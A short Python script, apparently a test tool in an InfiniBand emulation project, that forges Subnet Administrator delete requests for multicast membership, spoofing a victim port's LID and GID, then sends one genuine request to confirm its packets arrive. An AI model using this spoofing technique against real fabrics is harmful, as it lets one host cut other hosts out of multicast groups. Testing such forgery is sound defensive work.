#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""The HCA of examples/udp_peer.py, which also asks the SA to end the membership of another port.

    forger.py VICTIM_LID VICTIM_GID OPTIONS...      (the options of udp_peer.py)

As soon as the HCA has joined the broadcast group, the program sends three times SubnAdmDelete(MCMemberRecord) of this group
for the port GID of the victim, with the victim's LID as source. Then it sends one such request with its own LID and
GID, and the effect of this request shows that the program's packets reach the SA.
"""
import ipaddress
import socket
import sys
from struct import pack

sys.dont_write_bytecode = True
sys.path.insert(0, sys.path[0] + "/../../examples")
sys.argv, victim_lid, victim_gid = [sys.argv[0], *sys.argv[3:]], int(sys.argv[1], 0), ipaddress.ip_address(sys.argv[2]).packed
import udp_peer                             # noqa: E402
from peer.link import say                   # noqa: E402
from peer.port import Hca                   # noqa: E402
from peer.wire import QP1_QKEY, Packet, encode  # noqa: E402

DELETE = 0x15


class Forger(Hca):
    def tell(self, number=0):
        forged = number < 3
        slid, gid = (victim_lid, victim_gid) if forged else (self.sma.lid, self.gid)
        mad = pack(">BBBBHHQHHI", 1, 3, 2, DELETE, 0, 0, 0x1000 + number, 0x38, 0, 0)
        mad += pack(">12xQHHQ", 0, 0, 0, 0x10083) + self.ipoib.mgid + gid + pack(">8xH6xB3x", self.ipoib.pkey, 1)
        packet = Packet(0, 0, self.sma.sm_lid, slid, None, 0xFFFF, 1, QP1_QKEY, 1, mad.ljust(256, b"\0"))
        self.link.send(encode(packet, next(self.psn)), 0)
        say("forged" if forged else "left")
        if forged:
            self.timers.enter(0.1, 0, self.tell, (number + 1,))


def main():
    args = udp_peer.arguments()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.bind(args.listen)
    hca = Forger(args, sock)
    done = hca.ipoib.join_done

    def joined(record):
        done(record)
        hca.timers.enter(0.1, 0, hca.tell, ())
    hca.ipoib.join_done = joined
    hca.run(lambda: False)


main()
